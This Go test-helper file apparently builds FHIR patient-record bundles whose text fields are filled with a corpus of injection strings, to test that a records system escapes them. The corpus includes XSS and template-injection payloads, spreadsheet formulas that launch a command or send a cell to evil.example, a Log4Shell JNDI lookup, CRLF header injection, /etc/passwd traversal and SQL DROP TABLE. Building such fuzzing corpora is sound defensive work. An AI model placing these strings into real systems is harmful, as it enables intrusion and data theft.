package matrix

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"unicode"

	"postern.example/postern/internal/room/records"
)

// corpus are texts that would be something else than text somewhere. %d becomes the
// number of the text, so that a page can be asked which of them it shows.
var corpus = []string{
	`<script>hit()</script>zq.%d.z`, `"><script>hit()</script>zq.%d.z`, `'><svg/onload=hit()>zq.%d.z`, `<img src=x onerror=hit()>zq.%d.z`, `"onmouseover="hit()" x="zq.%d.z`,
	`' autofocus onfocus='hit()' x='zq.%d.z`, "`onclick=hit()`zq.%d.z", `javascript:hit()//zq.%d.z`, `data:text/html,<script>hit()</script>zq.%d.z`, `</title><script>hit()</script>zq.%d.z`,
	`</textarea><script>hit()</script>zq.%d.z`, `</style><script>hit()</script>zq.%d.z`, `</script><script>hit()</script>zq.%d.z`, `--><script>hit()</script>zq.%d.z`, `]]><script>hit()</script>zq.%d.z`,
	`<svg><script>hit()</script></svg>zq.%d.z`, `<svg><animate onbegin=hit() attributeName=x></svg>zq.%d.z`, `<math><mtext></p><style><img src=x onerror=hit()></style>zq.%d.z`, `<noscript><p title="</noscript><img src=x onerror=hit()>">zq.%d.z`,
	`<svg></p><style><a id="</style><img src=1 onerror=hit()>">zq.%d.z`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>zq.%d.z`, `<iframe srcdoc="<script>parent.hit()</script>"></iframe>zq.%d.z`,
	`<object data="data:text/html,<script>hit()</script>"></object>zq.%d.z`, `<embed src="data:image/svg+xml,<svg onload=hit()>">zq.%d.z`, `<base href="//evil.example/">zq.%d.z`, `<meta http-equiv=refresh content="0;url=//evil.example">zq.%d.z`,
	`<link rel=stylesheet href="//evil.example/x.css">zq.%d.z`, `<a href="javascript:hit()">zq.%d.z</a>`, `<a href="//evil.example">zq.%d.z</a>`, `<form action="//evil.example"><input name=form_token><button>zq.%d.z</button></form>`,
	`<div style="background:url(javascript:hit())">zq.%d.z</div>`, `<input autofocus onfocus=hit()>zq.%d.z`, `<details open ontoggle=hit()>zq.%d.z`, `<video><source onerror=hit()></video>zq.%d.z`, `<template><script>hit()</script></template>zq.%d.z`,
	`{{hit()}}zq.%d.z`, `${hit()}zq.%d.z`, `{{.Reveal}}{{define "x"}}zq.%d.z`, `<%%= hit() %%>zq.%d.z`, `#{hit()}zq.%d.z`, `[[hit()]]zq.%d.z`, `&lt;script&gt;hit()&lt;/script&gt;zq.%d.z`, `&#60;script&#62;hit()&#60;/script&#62;zq.%d.z`,
	`&amp;lt;b&amp;gt;zq.%d.z`, `\u003cscript\u003ehit()\u003c/script\u003ezq.%d.z`, `%%3Cscript%%3Ehit()%%3C/script%%3Ezq.%d.z`, "\"},\"x\":{\"y\":\"zq.%d.z", `\"}];hit();//zq.%d.z`, `'-hit()-'zq.%d.z`, `";hit();//zq.%d.z`,
	`=cmd|' /C calc'!A0zq.%d.z`, `+1+1zq.%d.z`, `-2+3zq.%d.z`, `@SUM(1+1)zq.%d.z`, "\t=1+1zq.%d.z", `=HYPERLINK("https://evil.example?x="&A1,"zq.%d.z")`, "a\r\nSet-Cookie: x=1zq.%d.z", "a\r\n\r\n<script>hit()</script>zq.%d.z", `"a","b";zq.%d.z`,
	"\u202Egpj.exe zq.%d.z", "\u2066\u2067zq.%d.z\u2069", "\u200B\u200Dzq.%d.z\uFEFF", "\uFF1Cscript\uFF1Ehit()\uFF1C/script\uFF1Ezq.%d.z", "\u2028hit()\u2029zq.%d.z", "Z\u0351\u036B\u0343\u036A\u0302\u036Bzq.%d.z", "\uFFFDzq.%d.z", "null zq.%d.z", "undefined zq.%d.z", "NaN zq.%d.z",
	"<\u0131mg src=x onerror=hit()>zq.%d.z", "<ſcript>hit()</ſcript>zq.%d.z", "%%00<script>hit()</script>zq.%d.z", "\U0001F469\u200D\U0001F469\u200D\U0001F467zq.%d.z", "ﷺﷺﷺzq.%d.z", "../../../../etc/passwdzq.%d.z", "${jndi:ldap://evil.example/x}zq.%d.z", "'; DROP TABLE chart_row;--zq.%d.z",
}

// text is one of the corpus, with its number in it.
func text(i int) string {
	i %= len(corpus)
	return fmt.Sprintf(corpus[i], i)
}

// long is a word that no line breaks.
var long = strings.Repeat("Wörterwörter", 40) + "zq.900.z"

var (
	keptKeys  = []string{"resourceType", "id", "reference", "system", "code", "status", "gender", "url", "use", "div", "contentType", "language", "currency", "intent", "kind", "mode", "comparator", "versionId", "uid"}
	dateLike  = regexp.MustCompile(`^\d{4}(-\d\d)?(-\d\d)?`)
	stemClash = regexp.MustCompile(`^(value|medication|onset|effective|occurrence|performed|deceased|multipleBirth|serviced|asNeeded|abatement|reported|target|product|location)[A-Z]`)
)

// seen is the text without what an identifier may not hold: an import refuses a number
// that reads otherwise than it is.
func seen(evil string) string {
	return strings.Map(func(r rune) rune {
		if unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			return -1
		}
		return r
	}, evil)
}

// prose are the elements that may hold characters which hide or turn; a page marks them.
var prose = []string{"text", "div", "display", "description", "title", "comment", "name", "alias", "conclusion", "note", "family", "given", "prefix", "suffix", "line", "city", "state"}

// in is the text as an element of this name may hold it.
func in(name, evil string) string {
	if slices.Contains(prose, name) {
		return evil
	}
	return seen(evil)
}

// poison puts the text into every string of v that is text and not a code, a date or a reference.
func poison(v any, key, evil string, keep []string) any {
	switch x := v.(type) {
	case map[string]any:
		for k := range x {
			x[k] = poison(x[k], k, evil, keep)
		}
	case []any:
		for i := range x {
			x[i] = poison(x[i], key, evil, keep)
		}
	case string:
		switch {
		case slices.Contains(keep, key) || dateLike.MatchString(x):
		default:
			return in(key, evil)
		}
	}
	return v
}

// hostile is a resource like the definition's example in which every text is evil.
func hostile(d records.Definition, n int, evil string) map[string]any {
	var r map[string]any
	if err := json.Unmarshal([]byte(d.Example), &r); err != nil {
		panic(err)
	}
	keep := slices.Clone(keptKeys)
	for _, e := range d.Shape {
		if e.Kind == records.KindCode {
			keep = append(keep, e.Path[strings.LastIndexByte(e.Path, '.')+1:])
		}
	}
	poison(r, "", evil, keep)
	for _, e := range d.Shape {
		if v := elementOf(e, evil); v != nil && !strings.ContainsAny(e.Path, ".|") && r[e.Path] == nil && !stemClash.MatchString(e.Path) {
			r[e.Path] = v
		}
	}
	if d.Type == "Observation" {
		switch n % 3 {
		case 1:
			delete(r, "valueQuantity")
			r["valueString"] = seen(evil)
		case 2:
			delete(r, "valueQuantity")
			r["valueCodeableConcept"] = concept(evil)
		}
		if n%2 == 0 {
			r["code"] = concept(evil) // a test that no catalogue knows
		}
	}
	r["text"] = map[string]any{"status": "generated", "div": `<div xmlns="http://www.w3.org/1999/xhtml">` + evil + `</div>`}
	if d.Type != "Patient" {
		r["id"] = fmt.Sprint(r["id"], "-", n)
	}
	return r
}

func concept(evil string) map[string]any {
	return map[string]any{"text": evil, "coding": []any{map[string]any{"system": "https://codes.example", "code": "x", "display": evil}}}
}

// elementOf is a value of the element's kind, nil where a text cannot stand.
func elementOf(e records.Element, evil string) (v any) {
	switch e.Kind {
	case records.KindString:
		v = in(e.Path, evil)
	case records.KindConcept:
		v = concept(evil)
	case records.KindCoding:
		v = map[string]any{"system": "https://codes.example", "code": "x", "display": evil}
	case records.KindName:
		v = map[string]any{"family": evil, "given": []any{evil}, "prefix": []any{evil}}
	case records.KindIdentifier:
		v = map[string]any{"system": "https://numbers.example", "value": seen(evil)}
	case records.KindObject:
		v = map[string]any{"text": evil, "display": evil, "description": evil}
	case records.KindReference:
		v = map[string]any{"display": evil}
	default:
		return nil
	}
	if e.List {
		return []any{v}
	}
	return v
}

// hostileBundle is the chart of one patient with a share of the corpus in every type.
func hostileBundle(k, of int) (name, source, bundle string) {
	base := fmt.Sprintf("https://h%d.example/fhir/", k)
	var entries []string
	add := func(r map[string]any) {
		b, err := json.Marshal(map[string]any{"fullUrl": base + fmt.Sprint(r["resourceType"], "/", r["id"]), "resource": r})
		if err != nil {
			panic(err)
		}
		entries = append(entries, string(b))
	}
	for _, d := range records.Definitions() {
		if d.Type == "Patient" {
			p := hostile(d, k, text(k*7))
			p["birthDate"] = fmt.Sprintf("19%02d-03-0%d", 40+k, 1+k)
			p["name"] = []any{map[string]any{"family": text(k * 7), "given": []any{text(k*7 + 1)}}}
			p["identifier"] = []any{map[string]any{"system": base + "mrn", "value": seen(text(k*7 + 2)), "type": map[string]any{"coding": []any{map[string]any{"system": "http://terminology.hl7.org/CodeSystem/v2-0203", "code": "MR"}}}}}
			add(p)
			continue
		}
		for i := k; i < len(corpus); i += of {
			add(hostile(d, i, text(i)))
		}
		if k == 0 {
			add(hostile(d, 900, long))
		}
	}
	return text(k*7 + 3), base + "Patient/rosa", `{"resourceType":"Bundle","type":"collection","entry":[` + strings.Join(entries, ",\n") + `]}`
}
